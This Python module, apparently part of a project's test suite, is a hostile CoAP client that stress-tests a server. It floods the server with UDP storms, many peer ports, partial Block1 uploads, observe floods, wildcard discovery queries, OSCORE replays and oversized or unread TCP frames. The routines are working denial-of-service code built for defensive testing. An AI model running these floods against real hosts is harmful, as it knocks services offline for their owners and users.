"""A hostile CoAP client in a process of its own: ``… coap_attacker NAME HOST:PORT SECONDS``.

Nobody has to log in here. Datagrams come from many ports, which are many peers to the site.
"""

import asyncio
import contextlib
import os
import random
import socket
import sys
from collections.abc import Awaitable, Callable, Iterator
from itertools import count, cycle

from tests.site.mqtt_attacker import Link

CON, NON, GET, POST, PUT = 0x40, 0x50, 1, 2, 3
URI_PATH, URI_QUERY, OBSERVE, BLOCK1, ECHO, OSCORE = 11, 15, 6, 27, 252, 9
MESSAGE_IDS = cycle(range(65_536))


def options(*pairs: tuple[int, bytes]) -> bytes:
    out, last = b"", 0
    for number, value in sorted(pairs, key=lambda pair: pair[0]):
        heads, tails = 0, b""
        for shift, size in ((4, number - last), (0, len(value))):
            small = min(size, 13) if size < 269 else 14
            heads |= small << shift
            tails += (size - 13).to_bytes(1) if small == 13 else b""
            tails += (size - 269).to_bytes(2) if small == 14 else b""
        out += bytes((heads,)) + tails + value
        last = number
    return out


def path(text: str) -> list[tuple[int, bytes]]:
    return [(URI_PATH, part.encode()) for part in text.split("/")]


def request(
    code: int,
    where: str,
    *more: tuple[int, bytes],
    token: bytes = b"",
    kind: int = CON,
    payload: bytes = b"",
) -> bytes:
    head = bytes((kind | len(token), code)) + next(MESSAGE_IDS).to_bytes(2)
    body = b"\xff" + payload if payload else b""
    return head + token + options(*path(where), *more) + body


class Ports:
    """Many sockets to one place; ``seen`` counts bytes both ways."""

    def __init__(self, place: str, number: int) -> None:
        host, _, port = place.rpartition(":")
        self.place = host, int(port)
        self.all = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(number)]
        for each in self.all:
            each.setblocking(False)
            each.connect(self.place)

    def say(self, each: socket.socket, data: bytes) -> None:
        with contextlib.suppress(OSError):
            each.send(data)

    def hear(self, each: socket.socket) -> list[bytes]:
        heard = []
        with contextlib.suppress(OSError):
            while True:
                heard.append(each.recv(2048))
        return heard

    async def believed(self, where: str) -> None:
        """Show with Echo that the ports are there."""
        for each in self.all:
            self.say(each, request(GET, where, (OBSERVE, b""), token=b"x"))
            await asyncio.sleep(0.001)
            for data in self.hear(each):
                at = data.find(b"\xec\x0c")
                at = data.find(b"\xdd") if at < 0 else at
                echo = data[-12:]
                self.say(each, request(GET, where, (ECHO, echo), token=b"x"))


Attack = Callable[[str, int], Awaitable[None]]


def storm(
    make: Callable[[int], bytes],
    ports: int = 50,
    *,
    burst: int = 20,
    reads: bool = True,
    believed: bool = False,
) -> Attack:
    async def attack(place: str, number: int) -> None:
        all_ports = Ports(place, ports)
        if believed:
            await all_ports.believed("good/c")
        for turn in count():
            for each in all_ports.all:
                for _ in range(burst):
                    all_ports.say(each, make(turn))
                if reads:
                    all_ports.hear(each)
                await asyncio.sleep(0)

    return attack


def noise(turn: int) -> bytes:
    return bytes((random.choice((0x40, 0x50, 0x60, 0x70)),)) + random.randbytes(40)


def reset(turn: int) -> bytes:
    return b"\x70\0" + random.randbytes(2)


def cached(turn: int) -> bytes:
    return request(GET, "good/c", token=random.randbytes(8), payload=b"")


def published(turn: int) -> bytes:
    return request(PUT, "evil/x", payload=b"x" * 1000)


def unfinished(turn: int) -> bytes:
    path_query = (URI_QUERY, b"n=%d" % random.getrandbits(60))
    return request(PUT, "evil/x", path_query, (BLOCK1, bytes((0x0E,))), payload=b"x" * 1024)


def observing(turn: int) -> bytes:
    return request(GET, "evil/x", (OBSERVE, b""), token=random.randbytes(8))


def discovering(turn: int) -> bytes:
    hostile = random.choice((b"href=/*", b"rt=*", b"href=" + b"*" * 200, b"x=" + b"%" * 200))
    return request(GET, ".well-known/core", (URI_QUERY, hostile), token=random.randbytes(8))


def replayed(turn: int) -> bytes:
    return request(POST, "x", (OSCORE, b"\x09\x01" + random.randbytes(4)), payload=b"x" * 30)


def forbidden(turn: int) -> bytes:
    return request(
        POST, random.choice(("$site/policy/apply", "$site/token/issue", "Good/m")), payload=b"{}"
    )


def strange(turn: int) -> bytes:
    return request(GET, "/".join(f"%{random.getrandbits(8):02x}" for _ in range(100)))


def frame(code: int, rest: bytes, token: bytes = b"") -> bytes:
    size = len(rest)
    if size < 13:
        return bytes((size << 4 | len(token), code)) + token + rest
    if size < 269:
        return bytes((0xD0 | len(token), size - 13, code)) + token + rest
    if size < 65_805:
        return (
            bytes((0xE0 | len(token),)) + (size - 269).to_bytes(2) + bytes((code,)) + token + rest
        )
    return bytes((0xF0 | len(token),)) + (size - 65_805).to_bytes(4) + bytes((code,)) + token + rest


CSM = frame(0xE1, b"")


async def mute(place: str, number: int) -> None:
    """Connect and never say CSM."""
    links = [await Link(place).open() for _ in range(50)]
    await asyncio.gather(*(link.reading for link in links))


async def huge(place: str, number: int) -> None:
    """Send all but the end of the largest message, before and after CSM."""
    for _ in range(20):
        link = await Link(place).open()
        start = CSM * (number % 2)
        start += b"\xf0" + (1_000_000 - 65_805).to_bytes(4) + b"\x03"
        await link.flood(iter([start, *[b"x" * 65_536] * 15]))
    await asyncio.Event().wait()


def streaming(parts: Callable[[], Iterator[bytes]], *, reads: bool = True) -> Attack:
    async def attack(place: str, number: int) -> None:
        while True:
            link = await Link(place).open(CSM, reads=reads)
            await link.flood(parts())
            link.close()
            await asyncio.sleep(0.01)

    return attack


def tiny_frames() -> Iterator[bytes]:
    while True:
        yield b"\0\0" * 30_000


def pings() -> Iterator[bytes]:
    while True:
        yield frame(0xE2, b"") * 20_000


def stream_gets() -> Iterator[bytes]:
    one = frame(GET, options(*path("good/c")), b"t")
    while True:
        yield one * 5_000


def stream_options() -> Iterator[bytes]:
    while True:
        yield frame(GET, b"\x10" + b"\0" * 900_000)


def stream_observes() -> Iterator[bytes]:
    while True:
        yield (
            b"".join(
                frame(GET, options(*path("evil/x"), (OBSERVE, b"")), random.randbytes(8))
                for _ in range(300)
            )
            + frame(PUT, options(*path("evil/x")) + b"\xff" + b"x" * 1000, b"p") * 20
        )


DATAGRAMS: dict[str, tuple[int, Attack]] = {
    "noise": (4, storm(noise)),
    "resets": (4, storm(reset)),
    "cached": (4, storm(cached, 400)),
    "believed": (4, storm(cached, 400, believed=True)),
    "published": (4, storm(published)),
    "unfinished": (4, storm(unfinished, 100)),
    "observing": (4, storm(observing, 100, believed=True)),
    "discovering": (4, storm(discovering)),
    "replayed": (4, storm(replayed)),
    "forbidden": (4, storm(forbidden)),
    "strange": (4, storm(strange)),
}
STREAMS: dict[str, tuple[int, Attack]] = {
    "mute": (20, mute),
    "huge": (40, huge),
    "tiny-frames": (4, streaming(tiny_frames)),
    "pings": (4, streaming(pings)),
    "unread-gets": (10, streaming(stream_gets, reads=False)),
    "stream-gets": (4, streaming(stream_gets)),
    "stream-options": (4, streaming(stream_options)),
    "stream-observes": (4, streaming(stream_observes)),
    "unread-observes": (10, streaming(stream_observes, reads=False)),
}
"""Those over TCP."""
ATTACKS = DATAGRAMS | STREAMS


async def attack(name: str, place: str, seconds: float) -> None:
    number, start = ATTACKS[name]
    tasks = [asyncio.create_task(start(place, n)) for n in range(number)]
    print("attacking", flush=True)
    done, _ = await asyncio.wait(tasks, timeout=seconds, return_when=asyncio.FIRST_EXCEPTION)
    for task in done:
        task.result()


if __name__ == "__main__":
    asyncio.run(attack(sys.argv[1], sys.argv[2], float(sys.argv[3])))
    os._exit(0)
